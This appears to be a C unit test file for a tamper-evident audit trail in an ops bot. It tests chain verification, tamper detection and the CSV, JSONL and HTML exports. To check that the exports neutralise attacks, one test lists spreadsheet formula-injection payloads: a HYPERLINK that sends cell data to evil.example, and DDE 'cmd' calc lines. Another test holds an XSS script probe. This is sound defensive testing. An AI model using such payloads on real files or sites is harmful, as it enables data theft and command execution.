/* Unit tests for the hash-chained audit trail and its exports. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cjson/cJSON.h>
#include <sqlite3.h>

#include "opsbot/audit.h"
#include "opsbot/err.h"
#include "opsbot/log.h"
#include "opsbot/store.h"
#include "unit/csv_reader.h"

#define T0 1732723447000LL

static struct ob_store *open_mem(void)
{
    struct ob_store *s = NULL;

    assert_int_equal(ob_store_open(&s, ":memory:"), 0);
    return s;
}

static int64_t append(struct ob_store *s, const char *req, const char *step, const char *actor,
                      const char *detail, int64_t ts)
{
    struct ob_audit_entry e = {.request_id = req,
                               .step = step,
                               .actor = actor,
                               .platform = "console",
                               .channel = "term",
                               .action = "restart",
                               .detail = detail};
    char hash[OB_HASH_HEX];
    int64_t id = 0;

    assert_int_equal(ob_audit_append(s, &e, ts, &id, hash), 0);
    assert_int_equal(strlen(hash), 64);
    return id;
}

/* n records, ts T0 + i*1000 for record i (1-based), alternating two requests. */
static struct ob_store *store_with(int n)
{
    struct ob_store *s = open_mem();
    char detail[64];

    for (int i = 1; i <= n; i++) {
        snprintf(detail, sizeof(detail), "{\"n\":%d}", i);
        assert_int_equal(
            append(s, i % 2 ? "r-odd" : "r-even", "received", "console:dev", detail, T0 + i * 1000),
            i);
    }
    assert_int_equal(ob_store_flush(s), 0);
    return s;
}

static void exec(struct ob_store *s, const char *sql)
{
    char *msg = NULL;
    int rc = sqlite3_exec(ob_store_db(s), sql, NULL, NULL, &msg);

    if (rc != SQLITE_OK)
        fail_msg("%s: %s", sql, msg ? msg : "?");
}

static int64_t db_int(struct ob_store *s, const char *sql)
{
    sqlite3_stmt *st = NULL;
    int64_t v;

    assert_int_equal(sqlite3_prepare_v2(ob_store_db(s), sql, -1, &st, NULL), SQLITE_OK);
    assert_int_equal(sqlite3_step(st), SQLITE_ROW);
    v = sqlite3_column_int64(st, 0);
    sqlite3_finalize(st);
    return v;
}

static void expect_tamper(struct ob_store *s, int64_t bad, const char *why_part)
{
    int64_t count = -1, bad_id = -1;
    char why[256];

    assert_int_equal(ob_audit_verify(s, &count, &bad_id, why, sizeof(why)), OB_ETAMPER);
    assert_int_equal(bad_id, bad);
    if (!strstr(why, why_part))
        fail_msg("why '%s' lacks '%s'", why, why_part);
}

/* ---- chain ------------------------------------------------------------------ */

static void test_append_verify(void **state)
{
    struct ob_store *s;
    int64_t count = -1, bad = -1;
    char why[128] = "x";

    (void)state;
    s = open_mem();
    assert_int_equal(ob_audit_verify(s, &count, &bad, why, sizeof(why)), 0);
    assert_int_equal(count, 0);
    assert_string_equal(why, "");
    ob_store_close(s);

    s = store_with(12);
    assert_int_equal(ob_audit_verify(s, &count, &bad, why, sizeof(why)), 0);
    assert_int_equal(count, 12);
    assert_int_equal(db_int(s, "SELECT last_id FROM audit_head"), 12);
    assert_int_equal(db_int(s, "SELECT count(DISTINCT hash) FROM audit"), 12);
    /* Appending continues the chain. */
    assert_int_equal(append(s, "r-x", "finished", "opsbot", NULL, T0 + 99000), 13);
    assert_int_equal(ob_audit_verify(s, &count, NULL, NULL, 0), 0);
    assert_int_equal(count, 13);
    ob_store_close(s);
}

static void test_persist_reopen(void **state)
{
    char dir[] = "/tmp/ob-audit-XXXXXX", path[64], p2[80];
    struct ob_store *s = NULL;
    int64_t count = 0;

    (void)state;
    assert_non_null(mkdtemp(dir));
    snprintf(path, sizeof(path), "%s/a.db", dir);
    assert_int_equal(ob_store_open(&s, path), 0);
    for (int i = 0; i < 5; i++)
        append(s, "r-1", "received", "console:dev", "{}", T0 + i);
    ob_store_close(s); /* close commits */
    s = NULL;
    assert_int_equal(ob_store_open(&s, path), 0);
    assert_int_equal(ob_audit_verify(s, &count, NULL, NULL, 0), 0);
    assert_int_equal(count, 5);
    assert_int_equal(append(s, "r-1", "finished", "opsbot", "{}", T0 + 10), 6);
    assert_int_equal(ob_audit_verify(s, &count, NULL, NULL, 0), 0);
    assert_int_equal(count, 6);
    ob_store_close(s);
    unlink(path);
    snprintf(p2, sizeof(p2), "%s-wal", path);
    unlink(p2);
    snprintf(p2, sizeof(p2), "%s-shm", path);
    unlink(p2);
    assert_int_equal(rmdir(dir), 0);
}

/* The documented format, checked against hashes computed independently with
 * Python's json.dumps(ensure_ascii=False, separators=(",", ":")) and
 * hashlib.blake2b(digest_size=32) (see docs/AUDIT.md). */
static void test_known_answer(void **state)
{
    struct ob_store *s = open_mem();
    struct ob_audit_entry e1 = {.request_id = "r-1",
                                .step = "received",
                                .actor = "console:dev",
                                .platform = "console",
                                .channel = "term",
                                .action = NULL,
                                .detail = "{\"text\":\"restart checkout in prod\"}"};
    struct ob_audit_entry e2 = {
        .request_id = "r-1",
        .step = "understood",
        .actor = "opsbot",
        .platform = "console",
        .channel = "term",
        .action = "restart",
        .detail = "{\"q\":\"a\\\"b\\\\c\n\t\x01\x7f \xc3\xa9 \xc3\xbc / \xe2\x80\xa8\"}"};
    char hash[OB_HASH_HEX];
    int64_t id = 0;

    (void)state;
    assert_int_equal(ob_audit_append(s, &e1, 1732723447123LL, &id, hash), 0);
    assert_int_equal(id, 1);
    assert_string_equal(hash, "0d2add1114cbb03bfbd5f4d25a4a9f80c774a635cc0eeb0d9cc894d02e1614cf");
    assert_int_equal(ob_audit_append(s, &e2, 1732723447200LL, &id, hash), 0);
    assert_int_equal(id, 2);
    assert_string_equal(hash, "24df807f9cf17e5968e0e8b07b7f7febabcb0ff13bf8b7d4b4e48ed3e8ae786a");
    ob_store_close(s);
}

static void test_tamper_edit(void **state)
{
    struct ob_store *s = store_with(10);

    (void)state;
    exec(s, "UPDATE audit SET detail = '{\"n\":0}' WHERE id = 5");
    expect_tamper(s, 5, "record 5: hash mismatch");
    ob_store_close(s);

    /* Editing the timestamp or the actor is caught too. */
    s = store_with(10);
    exec(s, "UPDATE audit SET ts = ts + 1 WHERE id = 7");
    expect_tamper(s, 7, "hash mismatch");
    ob_store_close(s);
    s = store_with(10);
    exec(s, "UPDATE audit SET actor = 'console:someone' WHERE id = 1");
    expect_tamper(s, 1, "record 1: hash mismatch");
    ob_store_close(s);
}

static void test_tamper_delete_middle(void **state)
{
    struct ob_store *s = store_with(10);

    (void)state;
    exec(s, "DELETE FROM audit WHERE id = 5");
    expect_tamper(s, 5, "record 5 missing after record 4");
    ob_store_close(s);

    s = store_with(3);
    exec(s, "DELETE FROM audit WHERE id = 1");
    expect_tamper(s, 1, "record 1 missing");
    ob_store_close(s);

    /* Delete and renumber: the ids are consecutive again, the hashes are not. */
    s = store_with(6);
    exec(s, "DELETE FROM audit WHERE id = 3; UPDATE audit SET id = id - 1 WHERE id > 3;"
            "UPDATE audit_head SET last_id = 5");
    expect_tamper(s, 3, "record 3: hash mismatch");
    ob_store_close(s);
}

static void test_tamper_delete_last(void **state)
{
    struct ob_store *s = store_with(40);

    (void)state;
    exec(s, "DELETE FROM audit WHERE id = 40");
    expect_tamper(s, 40, "head says 40 records, found 39: tail removed");
    ob_store_close(s);

    /* Head moved but its hash left alone. */
    s = store_with(4);
    exec(s, "DELETE FROM audit WHERE id = 4; UPDATE audit_head SET last_id = 3");
    expect_tamper(s, 3, "head hash does not match record 3");
    ob_store_close(s);

    /* A record slipped in behind the head's back. */
    s = store_with(4);
    exec(s, "UPDATE audit_head SET last_id = 3");
    expect_tamper(s, 4, "head says 3 records, found 4");
    ob_store_close(s);
}

static void test_tamper_swap(void **state)
{
    struct ob_store *s = store_with(8);

    (void)state;
    exec(s, "CREATE TEMP TABLE t AS SELECT * FROM audit WHERE id IN (3, 6);"
            "UPDATE audit SET (ts, request_id, step, actor, platform, channel, action, detail, "
            "hash) = (SELECT ts, request_id, step, actor, platform, channel, action, detail, hash "
            "FROM t WHERE t.id = CASE audit.id WHEN 3 THEN 6 ELSE 3 END) WHERE id IN (3, 6);");
    assert_int_equal(db_int(s, "SELECT ts FROM audit WHERE id = 3"), T0 + 6000);
    expect_tamper(s, 3, "record 3: hash mismatch");
    ob_store_close(s);
}

static void test_append_atomic(void **state)
{
    struct ob_store *s = store_with(3);
    struct ob_audit_entry e = {.request_id = "r", .step = "received"};
    int64_t count = 0;

    (void)state;
    /* A failed insert undoes itself; the rest of the batch (a claim) stays
     * and the chain goes on from the committed tip. */
    exec(s, "CREATE TRIGGER no_insert BEFORE INSERT ON audit BEGIN "
            "SELECT RAISE(ABORT, 'audit frozen'); END;");
    assert_int_equal(ob_store_claim(s, "c:1", T0), 0);
    assert_int_equal(ob_audit_append(s, &e, T0, NULL, NULL), OB_ESTORE);
    exec(s, "DROP TRIGGER no_insert");
    assert_int_equal(ob_audit_append(s, &e, T0, NULL, NULL), 0);
    assert_int_equal(ob_store_flush(s), 0);
    assert_int_equal(ob_store_claim(s, "c:1", T0), OB_EDUP);
    assert_int_equal(ob_audit_verify(s, &count, NULL, NULL, 0), 0);
    assert_int_equal(count, 4);

    /* A failed insert after others in the same transaction: the records
     * before it stay, and so does the tip they moved (the head written at
     * COMMIT covers them). */
    assert_int_equal(ob_store_flush(s), 0);
    assert_int_equal(ob_audit_append(s, &e, T0, NULL, NULL), 0); /* #5 */
    exec(s, "CREATE TRIGGER no_insert2 BEFORE INSERT ON audit WHEN NEW.step = 'x' BEGIN "
            "SELECT RAISE(ABORT, 'audit frozen'); END;");
    {
        struct ob_audit_entry x = {.request_id = "r", .step = "x"};

        assert_int_equal(ob_audit_append(s, &x, T0, NULL, NULL), OB_ESTORE);
    }
    assert_int_equal(ob_audit_append(s, &e, T0, NULL, NULL), 0); /* #6 */
    assert_int_equal(ob_store_flush(s), 0);
    exec(s, "DROP TRIGGER no_insert2");
    assert_int_equal(db_int(s, "SELECT last_id FROM audit_head"), 6);
    assert_int_equal(ob_audit_verify(s, &count, NULL, NULL, 0), 0);
    assert_int_equal(count, 6);
    exec(s, "DELETE FROM audit WHERE id > 4; UPDATE audit_head SET last_id = 4, hash = "
            "(SELECT hash FROM audit WHERE id = 4)");

    /* The head row is written once, at COMMIT, with the records it covers:
     * when that write fails, nothing of the batch becomes durable. */
    assert_int_equal(ob_store_flush(s), 0);
    exec(s, "CREATE TRIGGER no_head BEFORE UPDATE ON audit_head BEGIN "
            "SELECT RAISE(ABORT, 'head frozen'); END;");
    assert_int_equal(ob_store_claim(s, "c:2", T0), 0);
    assert_int_equal(ob_audit_append(s, &e, T0, NULL, NULL), 0);
    assert_int_equal(ob_audit_append(s, &e, T0, NULL, NULL), 0);
    assert_int_equal(ob_store_flush(s), OB_ESTORE);
    assert_int_equal(db_int(s, "SELECT count(*) FROM audit"), 4);
    exec(s, "DROP TRIGGER no_head");
    assert_int_equal(ob_store_claim(s, "c:2", T0), 0);
    assert_int_equal(ob_audit_append(s, &e, T0, NULL, NULL), 0);
    assert_int_equal(ob_store_flush(s), 0);
    assert_int_equal(db_int(s, "SELECT last_id FROM audit_head"), 5);
    assert_int_equal(ob_audit_verify(s, &count, NULL, NULL, 0), 0);
    assert_int_equal(count, 5);

    /* A corrupt head is refused rather than built upon. */
    exec(s, "UPDATE audit_head SET hash = 'zz'");
    assert_int_equal(ob_audit_append(s, &e, T0, NULL, NULL), OB_ESTORE);
    assert_int_equal(db_int(s, "SELECT count(*) FROM audit"), 5);
    assert_int_equal(ob_audit_append(s, NULL, T0, NULL, NULL), OB_EINVAL);
    ob_store_close(s);
}

static void test_sanitize(void **state)
{
    struct ob_store *s = open_mem();
    size_t big = 300 * 1024;
    char *detail = malloc(big + 1);
    int64_t count = 0;

    (void)state;
    assert_non_null(detail);
    memset(detail, 'a', big);
    detail[big] = '\0';
    append(s, "r-\xff", "received", "console:dev", "{\"t\":\"bad \xc3\x28 byte\"}", T0);
    append(s, "r-2", "finished", "opsbot", detail, T0 + 1);
    free(detail);
    assert_int_equal(db_int(s, "SELECT length(CAST(request_id AS BLOB)) FROM audit WHERE id = 1"),
                     5); /* "r-" + U+FFFD (3 bytes) */
    assert_true(db_int(s, "SELECT length(detail) FROM audit WHERE id = 2") <= 256 * 1024);
    assert_true(db_int(s, "SELECT length(detail) FROM audit WHERE id = 2") > 200 * 1024);
    assert_int_equal(ob_audit_verify(s, &count, NULL, NULL, 0), 0);
    assert_int_equal(count, 2);
    ob_store_close(s);
}

/* ---- each ------------------------------------------------------------------- */

struct collect {
    int64_t ids[16];
    char steps[16][32];
    int n;
    int stop_after;
};

static int collect_cb(void *data, const struct ob_audit_record *r)
{
    struct collect *c = data;

    c->ids[c->n] = r->id;
    snprintf(c->steps[c->n], sizeof(c->steps[0]), "%s", r->step);
    assert_int_equal(strlen(r->hash), 64);
    assert_string_equal(r->platform, "console");
    c->n++;
    if (c->stop_after && c->n == c->stop_after)
        return 7;
    return 0;
}

static void test_each_order(void **state)
{
    struct ob_store *s = open_mem();
    struct collect c = {0};

    (void)state;
    append(s, "r-a", "received", "console:dev", "{}", T0);
    append(s, "r-b", "received", "console:ops", "{}", T0 + 1);
    append(s, "r-a", "understood", "opsbot", "{}", T0 + 2);
    append(s, "r-b", "denied", "opsbot", "{}", T0 + 3);
    append(s, "r-a", "finished", "opsbot", NULL, T0 + 4);

    assert_int_equal(ob_audit_each(s, "r-a", collect_cb, &c), 0);
    assert_int_equal(c.n, 3);
    assert_int_equal(c.ids[0], 1);
    assert_int_equal(c.ids[1], 3);
    assert_int_equal(c.ids[2], 5);
    assert_string_equal(c.steps[0], "received");
    assert_string_equal(c.steps[1], "understood");
    assert_string_equal(c.steps[2], "finished");

    memset(&c, 0, sizeof(c));
    c.stop_after = 1;
    assert_int_equal(ob_audit_each(s, "r-b", collect_cb, &c), 7);
    assert_int_equal(c.n, 1);
    assert_int_equal(c.ids[0], 2);

    memset(&c, 0, sizeof(c));
    assert_int_equal(ob_audit_each(s, "r-none", collect_cb, &c), 0);
    assert_int_equal(c.n, 0);
    assert_int_equal(ob_audit_each(s, NULL, collect_cb, &c), OB_EINVAL);
    assert_int_equal(ob_audit_each(s, "r-a", NULL, &c), OB_EINVAL);
    ob_store_close(s);
}

/* Actions cut off by a stop: `started` with nothing after it that ends it. */
static void test_unfinished(void **state)
{
    struct ob_store *s = open_mem();
    struct collect c = {0};

    (void)state;
    append(s, "r-done", "started", "opsbot", "{\"command\":\"a\"}", T0);    /* 1 */
    append(s, "r-cut", "started", "opsbot", "{\"command\":\"b\"}", T0 + 1); /* 2 */
    append(s, "r-done", "finished", "opsbot", "{}", T0 + 2);                /* 3 */
    append(s, "r-fail", "started", "opsbot", NULL, T0 + 3);                 /* 4 */
    append(s, "r-fail", "failed", "opsbot", NULL, T0 + 4);                  /* 5 */
    append(s, "r-known", "started", "opsbot", NULL, T0 + 5);                /* 6 */
    append(s, "r-known", "outcome_unknown", "opsbot", NULL, T0 + 6);        /* 7 */
    append(s, "r-other", "received", "console:dev", NULL, T0 + 7);          /* 8 */
    append(s, "r-cut2", "started", "opsbot", NULL, T0 + 8);                 /* 9 */
    /* An approval run again later: finished before, started again after. */
    append(s, "r-again", "finished", "opsbot", NULL, T0 + 9); /* 10 */
    append(s, "r-again", "started", "opsbot", NULL, T0 + 10); /* 11 */

    assert_int_equal(ob_audit_unfinished(s, collect_cb, &c), 0);
    assert_int_equal(c.n, 3);
    assert_int_equal(c.ids[0], 2);
    assert_int_equal(c.ids[1], 9);
    assert_int_equal(c.ids[2], 11);
    assert_string_equal(c.steps[0], "started");
    /* Closing one takes it off the list. */
    append(s, "r-cut", "outcome_unknown", "opsbot", NULL, T0 + 11);
    memset(&c, 0, sizeof(c));
    assert_int_equal(ob_audit_unfinished(s, collect_cb, &c), 0);
    assert_int_equal(c.n, 2);
    assert_int_equal(c.ids[0], 9);
    /* The callback's non-zero return stops the walk and is returned. */
    memset(&c, 0, sizeof(c));
    c.stop_after = 1;
    assert_int_equal(ob_audit_unfinished(s, collect_cb, &c), 7);
    assert_int_equal(ob_audit_unfinished(s, NULL, &c), OB_EINVAL);
    ob_store_close(s);
}

/* ---- export ----------------------------------------------------------------- */

static char *export(struct ob_store *s, enum ob_audit_format fmt, int64_t since, int64_t until)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);

    assert_non_null(f);
    assert_int_equal(ob_audit_export(s, f, fmt, since, until), 0);
    fclose(f);
    assert_non_null(buf);
    return buf;
}

static void test_export_csv(void **state)
{
    struct ob_store *s = open_mem();
    const char *tricky = "{\"text\":\"a,b \\\"q\\\"\nline2\"}";
    char f[10][512];
    const char *p;
    char *out;

    (void)state;
    append(s, "r-1", "received", "console:dev", tricky, T0);
    append(s, "r-1", "finished", "opsbot", "plain", T0 + 1500);
    out = export(s, OB_AUDIT_CSV, 0, 0);
    p = out;
    assert_int_equal(csv_row(&p, f, 10), 10);
    assert_string_equal(f[0], "id");
    assert_string_equal(f[1], "time");
    assert_string_equal(f[8], "detail");
    assert_string_equal(f[9], "hash");
    assert_int_equal(csv_row(&p, f, 10), 10);
    assert_string_equal(f[0], "1");
    assert_string_equal(f[1], "2024-11-27T16:04:07.000Z");
    assert_string_equal(f[2], "r-1");
    assert_string_equal(f[3], "received");
    assert_string_equal(f[4], "console:dev");
    assert_string_equal(f[8], tricky); /* round-trips exactly */
    assert_int_equal(strlen(f[9]), 64);
    assert_int_equal(csv_row(&p, f, 10), 10);
    assert_string_equal(f[0], "2");
    assert_string_equal(f[1], "2024-11-27T16:04:08.500Z");
    assert_string_equal(f[8], "plain");
    assert_string_equal(p, "");
    /* The quoting itself: the quote doubled, the field wrapped. */
    assert_non_null(strstr(out, ",\"{\"\"text\"\":\"\"a,b \\\"\"q\\\"\"\nline2\"\"}\","));
    free(out);
    ob_store_close(s);
}

/* A CSV field as the auditor reads it back: one leading ' dropped (the
 * export adds one to values that a spreadsheet would run as a formula). */
static const char *csv_value(const char *field)
{
    return field[0] == '\'' ? field + 1 : field;
}

static void test_export_csv_formulas(void **state)
{
    /* Chat text that Excel / LibreOffice would run as a formula. */
    static const char *const evil[] = {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3,4",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "'=1+1",
    };
    const size_t n = sizeof(evil) / sizeof(evil[0]);
    struct ob_store *s = open_mem(), *again = open_mem();
    char f[10][512];
    const char *p;
    char *out;

    (void)state;
    for (size_t i = 0; i < n; i++) {
        struct ob_audit_entry e = {.request_id = evil[i],
                                   .step = "received",
                                   .actor = evil[i],
                                   .platform = "console",
                                   .channel = evil[i],
                                   .action = evil[i],
                                   .detail = evil[i]};
        char hash[OB_HASH_HEX];

        assert_int_equal(ob_audit_append(s, &e, T0 + (int64_t)i, NULL, hash), 0);
    }
    out = export(s, OB_AUDIT_CSV, 0, 0);
    /* Never a bare formula: every such field is quoted and starts with '. */
    assert_non_null(strstr(out, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"));
    assert_non_null(strstr(out, ",\"'+1+cmd|' /C calc'!A0\","));
    assert_non_null(strstr(out, ",\"'-2+3,4\","));
    assert_non_null(strstr(out, ",\"'\t=1+1\","));
    assert_non_null(strstr(out, ",\"'\r=1+1\","));
    assert_null(strstr(out, ",=")); /* no field starts with = */
    assert_null(strstr(out, ",+"));
    assert_null(strstr(out, ",-"));
    assert_null(strstr(out, ",@"));
    p = out;
    assert_int_equal(csv_row(&p, f, 10), 10);
    for (size_t i = 0; i < n; i++) {
        struct ob_audit_entry e = {.step = "received", .platform = "console"};
        char hash[OB_HASH_HEX];

        assert_int_equal(csv_row(&p, f, 10), 10);
        for (int k = 2; k <= 8; k++) {
            if (k == 3 || k == 5)
                continue; /* step, platform */
            assert_int_equal(f[k][0], '\'');
            assert_string_equal(csv_value(f[k]), evil[i]);
        }
        /* The values read back re-create the chain: same hashes. */
        e.request_id = csv_value(f[2]);
        e.actor = csv_value(f[4]);
        e.channel = csv_value(f[6]);
        e.action = csv_value(f[7]);
        e.detail = csv_value(f[8]);
        assert_int_equal(ob_audit_append(again, &e, T0 + (int64_t)i, NULL, hash), 0);
        assert_string_equal(hash, f[9]);
    }
    assert_string_equal(p, "");
    free(out);
    ob_store_close(again);
    ob_store_close(s);
}

static void test_export_jsonl(void **state)
{
    struct ob_store *s = open_mem();
    char *out, *line, *save = NULL;
    int n = 0;

    (void)state;
    append(s, "r-1", "received", "console:dev", "{\"text\":\"hi \\\"there\\\"\",\"n\":3}", T0);
    append(s, "r-1", "ignored", "opsbot", "not json {", T0 + 1);
    append(s, "r-1", "finished", "opsbot", NULL, T0 + 2);
    out = export(s, OB_AUDIT_JSONL, 0, 0);
    for (line = strtok_r(out, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
        cJSON *o = cJSON_Parse(line);
        const cJSON *d;

        assert_non_null(o);
        n++;
        assert_int_equal(cJSON_GetObjectItem(o, "id")->valuedouble, n);
        assert_int_equal((int64_t)cJSON_GetObjectItem(o, "ts")->valuedouble, T0 + n - 1);
        assert_string_equal(cJSON_GetObjectItem(o, "request")->valuestring, "r-1");
        assert_string_equal(cJSON_GetObjectItem(o, "platform")->valuestring, "console");
        assert_int_equal(strlen(cJSON_GetObjectItem(o, "hash")->valuestring), 64);
        assert_non_null(cJSON_GetObjectItem(o, "time"));
        d = cJSON_GetObjectItem(o, "detail");
        if (n == 1) {
            assert_true(cJSON_IsObject(d));
            assert_string_equal(cJSON_GetObjectItem(d, "text")->valuestring, "hi \"there\"");
        } else if (n == 2) {
            assert_true(cJSON_IsString(d));
            assert_string_equal(d->valuestring, "not json {");
        } else {
            assert_true(cJSON_IsString(d));
            assert_string_equal(d->valuestring, "");
        }
        cJSON_Delete(o);
    }
    assert_int_equal(n, 3);
    free(out);
    ob_store_close(s);
}

static void add_flow(struct ob_store *s)
{
    append(s, "r-1", "received", "console:dev",
           "{\"text\":\"restart checkout in prod <script>alert(1)</script>\"}", T0);
    append(s, "r-1", "understood", "console:dev",
           "{\"text\":\"restart checkout in prod\",\"proposal\":\"restart service=checkout "
           "env=prod\",\"source\":\"rules\"}",
           T0 + 10);
    append(s, "r-2", "received", "console:intern", "{\"text\":\"restart payments in prod\"}",
           T0 + 15);
    append(s, "r-1", "decided", "opsbot",
           "{\"effect\":\"approve\",\"rule\":\"prod-changes\",\"where\":\"p.yaml:4\","
           "\"reason\":\"prod needs approval\"}",
           T0 + 20);
    append(s, "r-2", "decided", "opsbot",
           "{\"effect\":\"deny\",\"rule\":\"default-deny\",\"reason\":\"no rule\"}", T0 + 25);
    append(s, "r-1", "approval_granted", "console:oncall", "{\"by\":\"console:oncall\"}", T0 + 30);
    append(s, "r-1", "started", "opsbot", "{\"command\":\"fleet.sh restart checkout prod\"}",
           T0 + 40);
    append(s, "r-1", "finished", "opsbot",
           "{\"exit\":0,\"duration_ms\":1234,\"output\":\"restarted & <b>ok</b>\"}", T0 + 1274);
}

static void test_export_html(void **state)
{
    struct ob_store *s = open_mem();
    char *out;
    const char *r1, *r2;

    (void)state;
    add_flow(s);
    out = export(s, OB_AUDIT_HTML, 0, 0);
    assert_non_null(strstr(out, "<title>opsbot audit trail</title>"));
    assert_non_null(strstr(out, "chain intact (8 records, head <code>"));
    assert_non_null(strstr(out, "&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert_null(strstr(out, "<script"));
    assert_null(strstr(out, "<b>ok"));
    assert_non_null(strstr(out, "restarted &amp; &lt;b&gt;ok&lt;/b&gt;"));
    assert_null(strstr(out, "http://"));
    assert_null(strstr(out, "https://"));
    assert_non_null(strstr(out, "restart service=checkout env=prod \xE2\x80\x94 asked by "
                                "console:dev \xE2\x80\x94 approved by console:oncall "
                                "\xE2\x80\x94 finished exit 0 in 1.2s"));
    assert_non_null(strstr(out, "asked by console:intern \xE2\x80\x94 denied by rule "
                                "default-deny \xE2\x80\x94 not run"));
    /* One section per request, in order of first record. */
    r1 = strstr(out, "<h2>r-1</h2>");
    r2 = strstr(out, "<h2>r-2</h2>");
    assert_non_null(r1);
    assert_non_null(r2);
    assert_true(r1 < r2);
    free(out);

    /* A broken chain is reported, in red. */
    exec(s, "UPDATE audit SET actor = 'console:mallory' WHERE id = 6");
    out = export(s, OB_AUDIT_HTML, 0, 0);
    assert_non_null(strstr(out, "<p class=\"bad\">chain BROKEN at record 6: record 6: hash "
                                "mismatch"));
    assert_null(strstr(out, "chain intact"));
    free(out);
    ob_store_close(s);
}

static void test_export_html_sparse(void **state)
{
    struct ob_store *s = open_mem();
    struct ob_audit_entry e = {.request_id = "r-9",
                               .step = "received",
                               .actor = "slack:U1",
                               .detail = "{\"text\":\"hello there\"}"};
    struct ob_audit_entry odd = {.request_id = "r-10", .step = "finished", .detail = "[1,2"};
    char *out;

    (void)state;
    assert_int_equal(ob_audit_append(s, &e, T0, NULL, NULL), 0);
    assert_int_equal(ob_audit_append(s, &odd, T0 + 1, NULL, NULL), 0);
    out = export(s, OB_AUDIT_HTML, 0, 0);
    /* Nothing understood: the words asked for stand in for the action. */
    assert_non_null(strstr(out, "<p class=\"summary\">\xE2\x80\x9Chello there\xE2\x80\x9D "
                                "\xE2\x80\x94 asked by slack:U1</p>"));
    /* Missing keys and a detail that is not JSON are tolerated. */
    assert_non_null(strstr(out, "<p class=\"summary\">(no action) \xE2\x80\x94 finished</p>"));
    assert_non_null(strstr(out, "[1,2"));
    assert_non_null(strstr(out, "1 record &middot;"));
    free(out);
    ob_store_close(s);
}

static int count_lines(const char *s)
{
    int n = 0;

    for (; *s; s++)
        n += *s == '\n';
    return n;
}

static void test_since_until(void **state)
{
    struct ob_store *s = store_with(10); /* ts T0+1000 .. T0+10000 */
    char *out;

    (void)state;
    out = export(s, OB_AUDIT_CSV, T0 + 3000, T0 + 6000); /* 3, 4, 5 */
    assert_int_equal(count_lines(out), 4);
    assert_non_null(strstr(out, "\r\n3,"));
    assert_non_null(strstr(out, "\r\n5,"));
    assert_null(strstr(out, "\r\n6,"));
    assert_null(strstr(out, "\r\n2,"));
    free(out);
    out = export(s, OB_AUDIT_JSONL, T0 + 9000, 0); /* 9, 10 */
    assert_int_equal(count_lines(out), 2);
    free(out);
    out = export(s, OB_AUDIT_JSONL, 0, T0 + 1001); /* 1 */
    assert_int_equal(count_lines(out), 1);
    free(out);
    out = export(s, OB_AUDIT_CSV, T0 + 20000, 0); /* header only */
    assert_int_equal(count_lines(out), 1);
    free(out);
    out = export(s, OB_AUDIT_HTML, T0 + 3000, T0 + 6000);
    assert_non_null(strstr(out, "3 records"));
    assert_non_null(strstr(out, "chain intact (10 records")); /* the whole chain */
    assert_null(strstr(out, "#6 "));
    assert_non_null(strstr(out, "#3 "));
    free(out);
    ob_store_close(s);
}

static void test_formats_and_errors(void **state)
{
    enum ob_audit_format fmt;
    struct ob_store *s = store_with(2);
    FILE *ro;

    (void)state;
    assert_int_equal(ob_audit_format_parse("csv", &fmt), 0);
    assert_int_equal(fmt, OB_AUDIT_CSV);
    assert_int_equal(ob_audit_format_parse("html", &fmt), 0);
    assert_int_equal(fmt, OB_AUDIT_HTML);
    assert_int_equal(ob_audit_format_parse("jsonl", &fmt), 0);
    assert_int_equal(fmt, OB_AUDIT_JSONL);
    assert_int_equal(ob_audit_format_parse("CSV", &fmt), OB_EINVAL);
    assert_int_equal(ob_audit_format_parse("json", &fmt), OB_EINVAL);
    assert_int_equal(ob_audit_format_parse(NULL, &fmt), OB_EINVAL);
    assert_int_equal(ob_audit_export(s, NULL, OB_AUDIT_CSV, 0, 0), OB_EINVAL);
    assert_int_equal(ob_audit_export(s, stdout, (enum ob_audit_format)42, 0, 0), OB_EINVAL);
    /* A stream that cannot be written reports an error. */
    ro = fopen("/dev/null", "r");
    assert_non_null(ro);
    assert_true(ob_audit_export(s, ro, OB_AUDIT_CSV, 0, 0) < 0);
    fclose(ro);
    ob_store_close(s);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_append_verify),
        cmocka_unit_test(test_persist_reopen),
        cmocka_unit_test(test_known_answer),
        cmocka_unit_test(test_tamper_edit),
        cmocka_unit_test(test_tamper_delete_middle),
        cmocka_unit_test(test_tamper_delete_last),
        cmocka_unit_test(test_tamper_swap),
        cmocka_unit_test(test_append_atomic),
        cmocka_unit_test(test_sanitize),
        cmocka_unit_test(test_each_order),
        cmocka_unit_test(test_unfinished),
        cmocka_unit_test(test_export_csv),
        cmocka_unit_test(test_export_csv_formulas),
        cmocka_unit_test(test_export_jsonl),
        cmocka_unit_test(test_export_html),
        cmocka_unit_test(test_export_html_sparse),
        cmocka_unit_test(test_since_until),
        cmocka_unit_test(test_formats_and_errors),
    };

    ob_log_set_level(OB_LOG_WARN);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
